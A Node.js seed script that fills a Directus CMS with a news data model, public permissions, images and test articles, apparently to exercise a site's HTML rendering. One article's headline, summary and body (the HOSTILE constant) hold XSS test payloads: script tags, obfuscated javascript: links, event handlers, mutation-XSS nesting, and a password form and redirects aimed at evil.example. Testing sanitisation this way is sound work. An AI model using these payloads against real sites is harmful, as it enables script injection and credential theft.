// Fills a fresh Directus: a data model as its own examples have it, what the public may read, pictures, and articles that
// hold what makes them hard to read.
//
//   TOKEN=… node directus-seed.mjs http://127.0.0.1:8055
import { png } from './png.mjs';

const root = process.argv[2];
const DAY = 86_400_000;
/** When the newest article was published. */
const NEWEST = Date.UTC(2026, 0, 20, 8);
/** Directus gives every installation its public policy under this id. */
const PUBLIC = 'abf8a154-5b1c-4a46-ac9c-7300570f4f17';

async function send(method, path, body) {
  const isForm = body instanceof FormData;
  const response = await fetch(root + path, {
    method,
    headers: { authorization: `Bearer ${process.env.TOKEN}`, ...(isForm ? {} : { 'content-type': 'application/json' }) },
    body: isForm ? body : body && JSON.stringify(body),
  });
  const text = await response.text();
  if (!response.ok) throw new Error(`${method} ${path}: ${response.status} ${text.slice(0, 400)}`);
  return text ? JSON.parse(text).data : undefined;
}

// ------------------------------------------------------------------------------------------------- the data model --

const field = (name, type, more = {}) => ({ field: name, type, schema: {}, meta: {}, ...more });
const key = { field: 'id', type: 'integer', schema: { is_primary_key: true, has_auto_increment: true }, meta: { hidden: true } };
const uuid = { field: 'id', type: 'uuid', schema: { is_primary_key: true }, meta: { hidden: true, special: ['uuid'] } };
const file = (name) => field(name, 'uuid', { meta: { interface: 'file-image', special: ['file'] } });

async function model() {
  const collection = (name, ...fields) => send('POST', '/collections', { collection: name, schema: {}, meta: {}, fields });
  await collection('sections', key, field('name', 'string'), field('slug', 'string'));
  await collection('authors', key, field('name', 'string'), field('email', 'string'), file('avatar'));
  await collection(
    'articles',
    uuid,
    field('status', 'string', { schema: { default_value: 'draft' } }),
    field('date_created', 'timestamp', { meta: { special: ['date-created'] } }),
    field('date_updated', 'timestamp', { meta: { special: ['date-updated'] } }),
    field('date_published', 'timestamp'),
    field('title', 'string'),
    field('slug', 'string'),
    field('summary', 'text'),
    field('body', 'text', { meta: { interface: 'input-rich-text-html' } }),
    field('tags', 'json', { meta: { interface: 'tags', special: ['cast-json'] } }),
    file('image'),
    field('section', 'integer'),
    field('author', 'integer'),
    { field: 'gallery', type: 'alias', meta: { interface: 'files', special: ['files'] } },
    { field: 'authors', type: 'alias', meta: { interface: 'list-m2m', special: ['m2m'] } },
  );
  await collection('articles_files', key, field('articles_id', 'uuid'), field('directus_files_id', 'uuid'));
  await collection('articles_authors', key, field('articles_id', 'uuid'), field('authors_id', 'integer'));
  const relation = (collection, field, related, one, junction) =>
    send('POST', '/relations', { collection, field, related_collection: related, schema: {}, meta: { one_field: one, junction_field: junction } });
  await relation('authors', 'avatar', 'directus_files');
  await relation('articles', 'image', 'directus_files');
  await send('POST', '/fields/sections', { field: 'articles', type: 'alias', meta: { interface: 'list-o2m', special: ['o2m'] } });
  await relation('articles', 'section', 'sections', 'articles');
  await relation('articles', 'author', 'authors');
  await relation('articles_files', 'articles_id', 'articles', 'gallery', 'directus_files_id');
  await relation('articles_files', 'directus_files_id', 'directus_files', null, 'articles_id');
  await relation('articles_authors', 'articles_id', 'articles', 'authors', 'authors_id');
  await relation('articles_authors', 'authors_id', 'authors', null, 'articles_id');
  // Drafts too, as many owners leave it: what is not published has to be left out by the one who reads.
  for (const collection of ['articles', 'articles_files', 'articles_authors', 'authors', 'sections', 'directus_files']) {
    await send('POST', '/permissions', { policy: PUBLIC, collection, action: 'read', fields: ['*'], permissions: {} });
  }
}

async function upload(number) {
  const form = new FormData();
  form.append('title', `What picture ${number} shows`);
  form.append('description', `Caption <em>${number}</em> & more`);
  form.append('file', new Blob([png(1600, 900, 80 * number)], { type: 'image/png' }), `lead-${number}.png`);
  return (await send('POST', '/files', form)).id;
}

// --------------------------------------------------------------------------------------------------- the articles --

await model();
await send('PATCH', '/settings', { project_name: 'Harbour Post', project_descriptor: 'All the news that fits a test' });
const pictures = [await upload(1), await upload(2), await upload(3)];
const sections = {};
for (const [name, slug] of [['Politics', 'politics'], ['Business', 'business'], ['Culture', 'culture'], ['사회', 'society']]) {
  sections[slug] = (await send('POST', '/items/sections', { name, slug })).id;
}
const eva = (await send('POST', '/items/authors', { name: 'Eva Editor', email: 'eva@example.org', avatar: pictures[1] })).id;
const min = (await send('POST', '/items/authors', { name: '민기자', email: 'min@example.org' })).id;

/** What the editor and what is pasted into it leave in a body. */
const EVERYTHING = `<p>First paragraph with <strong>bold</strong>, <em>slanted</em>, <strong><em>both</em></strong>,
<span style="text-decoration: underline;">under</span>, <del>struck</del> and <code>code()</code> words.</p>
<p>&nbsp;</p>
<h1>The largest heading</h1>
<h2 style="text-align: center;">A heading</h2>
<h3>A smaller heading</h3>
<ul><li>One</li><li>Two<ol><li>Two, first</li><li>Two, second</li></ol></li></ul>
<blockquote><p>A quoted sentence.</p></blockquote>
<p><img src="/assets/${pictures[1]}?width=800&amp;height=450" alt="A picture of the text" width="800" height="450" loading="lazy"></p>
<figure class="image"><img src="${root}/assets/${pictures[2]}" alt="A figure"><figcaption>What the figure shows</figcaption></figure>
<table style="border-collapse: collapse; width: 100%;" border="1"><thead><tr><th scope="col">Year</th><th scope="col">Riders</th></tr></thead>
<tbody><tr><td style="width: 50%;">2024</td><td>12</td></tr><tr><td colspan="2">together 46</td></tr></tbody></table>
<p><iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" width="560" height="314" allowfullscreen="allowfullscreen"></iframe></p>
<p><iframe src="https://maps.example/embed?id=7"></iframe></p>
<pre class="language-js"><code>const a = "&lt;b&gt;";</code></pre>
<hr>
<p>${'가나다라 마바사'.normalize('NFD')} last paragraph &amp; <a href="https://example.org/a?b=1&amp;c=2" target="_blank" rel="noopener">a link</a>,
<a href="/about">one of our own</a>.</p>`;

const WORD = `<!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml><![endif]-->
<style><!-- p.MsoNormal { margin: 0cm; } --></style>
<p class="MsoNormal" style="mso-margin-top-alt: auto; line-height: 115%;"><span lang="KO" style="font-family: '맑은 고딕'; mso-ascii-theme-font: minor-latin;">워드에서 옮긴</span><span
lang="EN-US"> first words.<o:p></o:p></span></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<p class="MsoListParagraph" style="text-indent: -18.0pt; mso-list: l0 level1 lfo1;"><!--[if !supportLists]--><span style="mso-list: Ignore;">&middot;<span
style="font: 7.0pt 'Times New Roman';">&nbsp;&nbsp;&nbsp;&nbsp;&nbsp; </span></span><!--[endif]-->An item of Word.</p>
<p class="MsoNormal"><b style="mso-bidi-font-weight: normal;">Bold of Word</b> <st1:place w:st="on">Seoul</st1:place>.</p>`;

const HOSTILE = `<p>Before.</p><script>document.title = 'broken in'</script>
<p onclick="document.title='broken in'">Text with <a href="javascript:document.title='broken%20in'">a link that runs</a>,
<a href="JaVa&#9;ScRiPt:document.title='broken%20in'">another</a>.</p>
<img src="/assets/none.png" onerror="document.title='broken in'"><svg onload="document.title='broken in'"><script>document.title='broken in'</script></svg>
<iframe srcdoc="<script>parent.document.title='broken in'</script>"></iframe>
<form action="https://evil.example/"><input name="password"><button>Send</button></form>
<style>body { display: none }</style><base href="https://evil.example/"><meta http-equiv="refresh" content="0; url=https://evil.example/">
<math><mtext><table><mglyph><style><img src=x onerror="document.title='broken in'"></style></mglyph></table></mtext></math>
<p>After.</p>`;

const hard = [
  {
    title: 'Ferry returns after its “longest” winter',
    slug: 'ferry-returns',
    summary: 'A standfirst & its <em>emphasis</em>.',
    body: EVERYTHING,
    tags: ['Harbour', 'City'],
    image: pictures[0],
    gallery: [pictures[1], pictures[2]].map((id) => ({ directus_files_id: id })),
    section: sections.politics,
    author: eva,
  },
  { title: 'Council splits 7–2 over the tram', slug: 'council-splits', summary: 'From Word.', body: WORD, image: pictures[1], section: sections.politics, author: min },
  { title: 'Hostile <script>document.title="broken in"</script> headline', slug: 'hostile', summary: '<img src=x onerror="document.title=\'broken in\'">Hostile summary', body: HOSTILE, section: sections.culture, author: eva },
  { title: 'Bare', slug: 'bare' },
  { title: 'Two wrote this', slug: 'two-authors', body: '<p>Two people wrote this.</p>', section: sections.business, authors: [{ authors_id: eva }, { authors_id: min }] },
  {
    title: '한강의 봄, 다시 열린 뱃길'.normalize('NFD'),
    slug: '한강의-봄',
    summary: '분해된 한글로 적힌 요약'.normalize('NFD'),
    body: `<p>${'분해된 한글 본문입니다.'.normalize('NFD')}</p><p>둘째 문단.</p>`,
    image: pictures[0],
    section: sections.society,
    author: min,
  },
  { title: 'A draft that nobody may read', slug: 'a-draft', body: '<p>Secret draft.</p>', section: sections.politics, image: pictures[2], status: 'draft' },
  { title: 'An archived story', slug: 'archived', body: '<p>Secret archive.</p>', section: sections.politics, status: 'archived' },
];
const plain = Array.from({ length: 24 }, (_, index) => ({
  title: `Plain story ${index + 1}`,
  slug: `plain-${index + 1}`,
  summary: `Standfirst of plain story ${index + 1}.`,
  body: `<p>Plain story ${index + 1} in a few words.</p>`,
  image: index % 6 === 0 ? pictures[index % 3] : null,
  section: sections.politics,
  author: eva,
}));
const articles = [...hard, ...plain].map((article, index) => ({ status: 'published', date_published: new Date(NEWEST - index * DAY).toISOString(), ...article }));
await send('POST', '/items/articles', articles);
